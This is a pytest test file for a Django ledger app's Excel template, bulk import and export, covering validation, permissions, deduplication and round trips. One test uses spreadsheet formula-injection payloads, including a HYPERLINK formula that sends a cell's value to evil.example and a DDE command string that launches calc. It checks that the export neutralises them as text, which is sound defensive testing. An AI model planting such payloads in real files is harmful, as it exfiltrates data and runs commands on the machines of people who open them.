"""Ledger spreadsheets: template, all-or-nothing import (10,000 rows), export through the shared filter."""

from __future__ import annotations

import io
from datetime import date

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl import Workbook, load_workbook

from zongjie.ledger import excel
from zongjie.ledger.filters import EntryFilter
from zongjie.ledger.models import Entry, EntryChange, EntryKind, EntryStatus, MediaLevel, Period
from zongjie.org.permissions import ScopeDenied
from zongjie.testing.factories import make_entry

pytestmark = pytest.mark.django_db

HEADERS = [c.header for c in excel.COLUMNS]
GOOD_ROW = {
    "类型": "稿件",
    "分类": "稿件刊播",
    "标题": "城关镇小麦丰收在望",
    "日期": "2026-03-15",
    "媒体": "人民网",
    "版面位置": "头版",
    "亮点": "否",
}


def sheet(rows: list[dict], headers: list[str] = HEADERS) -> io.BytesIO:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(excel.SHEET_TITLE)
    ws.append(headers)
    for row in rows:
        ws.append([row.get(h, "") for h in headers])
    buffer = io.BytesIO()
    wb.save(buffer)
    buffer.seek(0)
    return buffer


def test_template_has_chinese_headers_and_dropdowns(org):
    wb = load_workbook(io.BytesIO(excel.template_workbook()))
    assert wb.sheetnames == ["台账"]
    ws = wb.active
    headers = [c.value for c in ws[1]]
    assert headers[:4] == ["类型*", "分类*", "标题*", "日期*"]
    assert len(headers) == len(excel.COLUMNS)
    lists = {str(dv.sqref).split(":")[0][:-1]: dv.formula1 for dv in ws.data_validations.dataValidation}
    assert lists["A"] == '"稿件,信息报送,活动,学习,荣誉,其他"'
    assert lists["H"] == '"中央级,省级,市级,县级"'  # 媒体级别
    assert "稿件刊播" in lists["B"] and "中心组学习" in lists["B"]
    assert ws.freeze_panes == "A2"


def test_import_of_10000_rows_saves_all_with_progress(org):
    rows = []
    for i in range(10_000):
        if i % 2:
            rows.append({**GOOD_ROW, "标题": f"稿件{i}", "日期": date(2026, 1 + i % 6, 1 + i % 28)})
        else:
            rows.append(
                {
                    "类型": "活动",
                    "分类": "文艺演出",
                    "标题": f"活动{i}",
                    "日期": "2026/05/20",
                    "场次": 2,
                    "参与人数": "300",
                    "亮点": "是" if i % 10 == 0 else "",
                }
            )
    seen: list[tuple[str, int, int]] = []
    result = excel.import_entries(org.bob, org.town_a1, sheet(rows), progress=lambda *a: seen.append(a))
    assert result.ok, result.errors[:3]
    assert (result.rows, result.created) == (10_000, 10_000)
    assert Entry.objects.filter(unit=org.town_a1, status=EntryStatus.DRAFT).count() == 10_000
    assert Entry.objects.filter(kind=EntryKind.EVENT, sessions=2, participants=300).count() == 5_000
    assert Entry.objects.filter(starred=True).count() == 1_000  # i % 10 == 0, all even rows
    article = Entry.objects.get(title="稿件1")
    assert (article.outlet.name, article.media_level, article.placement) == (
        "人民日报",
        "central",
        "front_page",
    )
    assert article.period.code == "2026H1" and article.created_by == org.bob
    assert EntryChange.objects.filter(action=EntryChange.Action.IMPORT).count() == 10_000
    phases = {p for p, _, _ in seen}
    assert phases == {"检查", "保存"}
    assert seen[-1] == ("保存", 10_000, 10_000)
    assert ("检查", 10_000, 10_000) in seen


def test_bad_rows_are_reported_by_row_and_column_and_nothing_is_saved(org):
    rows = [dict(GOOD_ROW, 标题=f"好稿{i}") for i in range(30)]
    rows[4] = dict(GOOD_ROW, 类型="通讯")  # sheet row 6
    rows[9] = dict(GOOD_ROW, 日期="2026-13-40")  # row 11
    rows[14] = dict(GOOD_ROW, 媒体="", 标题="没有媒体")  # row 16: the service's own rule
    rows[19] = {**GOOD_ROW, "类型": "活动", "分类": "文艺演出", "场次": "两场", "参与人数": -5}  # row 21
    rows[24] = dict(GOOD_ROW, 日期="2026-08-01", 期间="2026H1")  # row 26: date outside its period
    rows[29] = dict(GOOD_ROW, 标题="")  # row 31
    result = excel.import_entries(org.bob, org.town_a1, sheet(rows))
    assert not result.ok
    assert result.rows == 30 and result.created == 0 and result.bad_rows == 6
    found = [(e.row, e.column) for e in result.errors]
    assert found == [
        (6, "类型"),
        (11, "日期"),
        (16, "媒体"),
        (21, "场次"),
        (21, "参与人数"),
        (26, "日期"),
        (31, "标题"),
    ]
    messages = {(e.row, e.column): e.message for e in result.errors}
    assert messages[(6, "类型")].startswith("未知的类型“通讯”")
    assert messages[(16, "媒体")] == "稿件须填写刊发媒体或媒体级别。"
    assert messages[(21, "参与人数")] == "参与人数不能为负数。"
    assert str(result.errors[0]).startswith("第 6 行 “类型”：")
    assert not Entry.objects.exists() and not EntryChange.objects.exists()


def test_a_failed_import_creates_no_period_and_a_good_one_does(org):
    bad = [dict(GOOD_ROW, 日期="2027-02-01"), dict(GOOD_ROW, 类型="?")]
    assert not excel.import_entries(org.bob, org.town_a1, sheet(bad)).ok
    assert not Period.objects.filter(code="2027H1").exists()
    assert excel.import_entries(org.bob, org.town_a1, sheet(bad[:1])).created == 1
    assert Entry.objects.get().period == Period.objects.get(code="2027H1")


def test_locked_period_and_missing_header_are_refused(org):
    Period.objects.get_or_create_code("2025H1")
    Period.objects.filter(code="2025H1").update(locked=True, locked_reason="考核已完成")
    result = excel.import_entries(org.bob, org.town_a1, sheet([dict(GOOD_ROW, 日期="2025-03-01")]))
    assert [(e.row, e.column) for e in result.errors] == [(2, "期间")]
    assert "已锁定（考核已完成）" in result.errors[0].message
    result = excel.import_entries(org.bob, org.town_a1, sheet([GOOD_ROW], headers=["类型", "标题"]))
    assert [(e.row, e.column) for e in result.errors] == [(1, "表头")]
    assert "分类、日期" in result.errors[0].message


def test_import_needs_write_permission(org):
    with pytest.raises(ScopeDenied):
        excel.import_entries(org.olivia, org.town_a1, sheet([GOOD_ROW]))


def test_export_round_trips_and_uses_the_list_filter(org):
    make_entry(org.town_a1, title="甲稿", media_level=MediaLevel.PROVINCIAL, placement="front_headline")
    make_entry(org.town_b1, title="乙稿")
    make_entry(org.town_a1, title="甲活动", kind=EntryKind.EVENT, sessions=3, participants=120)
    qs = EntryFilter.from_params({"unit": "A"}).apply(Entry.objects.visible_to(org.rita))
    wb = load_workbook(io.BytesIO(excel.export_entries(qs)))
    rows = list(wb.active.iter_rows(values_only=True))
    assert rows[0][:6] == ("编号", "单位", "类型", "分类", "标题", "日期")
    assert sorted(r[4] for r in rows[1:]) == ["甲活动", "甲稿"]
    # the exported sheet imports again into another unit as new drafts (without its 编号)
    wb.active.delete_cols(1)
    buffer = io.BytesIO()
    wb.save(buffer)
    buffer.seek(0)
    result = excel.import_entries(org.alice, org.county_a, buffer)
    assert result.ok and result.created == 2, result.errors
    again = Entry.objects.get(title="甲稿", status=EntryStatus.DRAFT)
    assert (again.unit, again.media_level, again.placement) == (org.county_a, "provincial", "front_headline")


def test_cli_ledger_import(org, tmp_path, capsys):
    path = tmp_path / "ledger.xlsx"
    path.write_bytes(sheet([GOOD_ROW, dict(GOOD_ROW, 标题="第二条")]).getvalue())
    call_command("ledger_import", str(path), "--unit", "A1", "--user", "bob_reporter", "--no-progress")
    assert "已导入到“甲县城关镇”：新增 2 条草稿，更新 0 条，跳过 0 条" in capsys.readouterr().out
    call_command("ledger_import", str(path), "--unit", "A1", "--user", "bob_reporter", "--no-progress")
    out = capsys.readouterr().out
    assert "新增 0 条草稿，更新 0 条，跳过 2 条" in out and "第 2 行" in out
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(sheet([dict(GOOD_ROW, 类型="xx")]).getvalue())
    with pytest.raises(CommandError, match="1 行有错误"):
        call_command("ledger_import", str(bad), "--unit", "A1", "--user", "bob_reporter", "--no-progress")
    assert "第 2 行 “类型”" in capsys.readouterr().err
    with pytest.raises(CommandError, match="没有权限"):
        call_command("ledger_import", str(path), "--unit", "A1", "--user", "olivia_outsider", "--no-progress")
    assert Entry.objects.count() == 2


def test_filter_reads_and_explains_parameters():
    f = EntryFilter.from_params({"period": "2026h1", "kind": "poem", "status": "approved", "starred": "1"})
    assert (f.period, f.kind, f.status, f.starred) == ("2026H1", "", "approved", True)
    assert f.problems == ("未知的条目类型“poem”，已忽略。",)
    assert f.params() == {"period": "2026H1", "status": "approved", "starred": "1"}


FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "summary": "=cmd|' /C calc'!A0",
    "link": "+1+1",
    "sent_to": "@SUM(1+1)",
    "evidence_url": "-2+3",
    "return_reason": "\t=1+1",
}


def test_export_writes_formula_like_text_as_text(org):
    fields = {k: v for k, v in FORMULAS.items() if k != "return_reason"}
    make_entry(org.town_a1, **fields, status=EntryStatus.RETURNED, return_reason=FORMULAS["return_reason"])
    make_entry(org.town_a1, title="\r=1+2", summary="普通文字")
    data = excel.export_entries(Entry.objects.all())
    wb = load_workbook(io.BytesIO(data))  # not data_only: a formula would come back as one
    cells = [c for row in wb.active.iter_rows(min_row=2) for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert set(FORMULAS.values()) <= texts and "\r=1+2" in texts
    quoted = {c.value for c in cells if c.quotePrefix}
    assert quoted == {*FORMULAS.values(), "\r=1+2"}
    # no <f> (formula) element anywhere in the sheet's XML
    import zipfile

    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_the_same_file_imported_four_times_leaves_one_copy(org):
    rows = [
        GOOD_ROW,
        dict(GOOD_ROW, 标题="第二条"),
        dict(GOOD_ROW, 标题="第二条"),
        dict(GOOD_ROW, 标题="第 三条"),
    ]
    first = excel.import_entries(org.bob, org.town_a1, sheet(rows))
    assert first.ok and (first.created, first.updated) == (3, 0)
    assert [(s.row, s.message) for s in first.skipped] == [(4, "与第 3 行相同，未重复导入。")]
    for _ in range(3):
        again = excel.import_entries(org.bob, org.town_a1, sheet(rows))
        assert again.ok and (again.created, again.updated, len(again.skipped)) == (0, 0, 4)
    assert Entry.objects.count() == 3
    # the normalised title: spaces and punctuation do not make a new entry
    assert excel.import_entries(org.bob, org.town_a1, sheet([dict(GOOD_ROW, 标题="第三条。")])).created == 0
    # another outlet or date is another entry
    assert excel.import_entries(org.bob, org.town_a1, sheet([dict(GOOD_ROW, 媒体="新华社")])).created == 1
    assert Entry.objects.count() == 4


def test_reimporting_an_export_updates_or_skips_by_its_id(org):
    excel.import_entries(org.bob, org.town_a1, sheet([GOOD_ROW, dict(GOOD_ROW, 标题="第二条")]))
    approved = make_entry(org.town_a1, title="已通过的稿")
    wb = load_workbook(io.BytesIO(excel.export_entries(Entry.objects.all())))
    ws = wb.active
    header = [c.value for c in ws[1]]
    for _ in range(4):
        buffer = io.BytesIO()
        wb.save(buffer)
        buffer.seek(0)
        result = excel.import_entries(org.bob, org.town_a1, buffer)
        assert result.ok and (result.created, result.updated, len(result.skipped)) == (0, 0, 3)
    assert Entry.objects.count() == 3
    # edit the draft's summary and the approved entry's title in the sheet: one update, one refusal
    by_title = {row[header.index("标题")].value: row for row in ws.iter_rows(min_row=2)}
    by_title["第二条"][header.index("内容摘要")].value = "补充了摘要"
    by_title["已通过的稿"][header.index("标题")].value = "改过的标题"
    buffer = io.BytesIO()
    wb.save(buffer)
    buffer.seek(0)
    result = excel.import_entries(org.bob, org.town_a1, buffer)
    assert result.ok and (result.created, result.updated) == (0, 1)
    assert any("已通过" in s.message and f"编号 {approved.pk}" in s.message for s in result.skipped)
    assert Entry.objects.get(title="第二条").summary == "补充了摘要"
    assert Entry.objects.get(pk=approved.pk).title == "已通过的稿"
    assert EntryChange.objects.filter(action=EntryChange.Action.UPDATE).count() == 1
    assert Entry.objects.count() == 3
    # an id of another unit's entry is refused, and nothing is written
    other = make_entry(org.town_b1, title="乙镇的稿")
    result = excel.import_entries(
        org.bob, org.town_a1, sheet([{**GOOD_ROW, "编号": other.pk, "标题": "新"}], ["编号", *HEADERS])
    )
    assert [(e.row, e.column) for e in result.errors] == [(2, "编号")]
    assert Entry.objects.get(pk=other.pk).title == "乙镇的稿"


def test_period_column_takes_names_and_codes_and_has_a_dropdown(org):
    from django.utils import timezone

    rows = [
        dict(GOOD_ROW, 标题="上半年稿", 期间="2026年上半年"),
        dict(GOOD_ROW, 标题="下半年稿", 日期="2026-08-01", 期间="2026年下半年"),
        dict(GOOD_ROW, 标题="编码稿", 日期="2026-09-01", 期间="2026h2"),
    ]
    result = excel.import_entries(org.bob, org.town_a1, sheet(rows))
    assert result.ok, result.errors
    got = dict(Entry.objects.values_list("title", "period__code"))
    assert got == {"上半年稿": "2026H1", "下半年稿": "2026H2", "编码稿": "2026H2"}
    bad = excel.import_entries(org.bob, org.town_a1, sheet([dict(GOOD_ROW, 期间="明年上半年")]))
    assert [(e.row, e.column) for e in bad.errors] == [(2, "期间")]
    assert "2026年上半年" in bad.errors[0].message
    Period.objects.filter(code="2026H1").update(locked=True)
    ws = load_workbook(io.BytesIO(excel.template_workbook())).active
    letter = "E"
    assert ws[f"{letter}1"].value == "期间"
    lists = {str(dv.sqref).split(":")[0][:-1]: dv for dv in ws.data_validations.dataValidation}
    year = timezone.localdate().year
    names = lists[letter].formula1.strip('"').split(",")
    assert f"{year}年下半年" in names and f"{year - 1}年上半年" in names and "2026年下半年" in names
    assert "2026年上半年" not in names  # locked
    assert lists[letter].errorStyle == "warning"  # a typed code is still allowed


def test_kind_and_category_must_agree(org):
    rows = [
        dict(GOOD_ROW, 分类="讲座"),  # row 2: an article filed as a lecture
        {**GOOD_ROW, "类型": "学习", "分类": "稿件刊播", "媒体": ""},  # row 3
        {**GOOD_ROW, "类型": "活动", "分类": "讲座", "媒体": ""},  # row 4: fine
        {**GOOD_ROW, "类型": "荣誉", "分类": "道德模范", "媒体": ""},  # row 5: fine
    ]
    result = excel.import_entries(org.bob, org.town_a1, sheet(rows))
    assert [(e.row, e.column) for e in result.errors] == [(2, "分类"), (3, "分类")]
    assert str(result.errors[0]).startswith(
        "第 2 行 “分类”：类型“稿件”与分类“讲座”不符；稿件应选择：稿件刊播"
    )
    assert "学习应选择：中心组学习、讲座" in result.errors[1].message
    assert not Entry.objects.exists()
    assert excel.import_entries(org.bob, org.town_a1, sheet(rows[2:])).created == 2
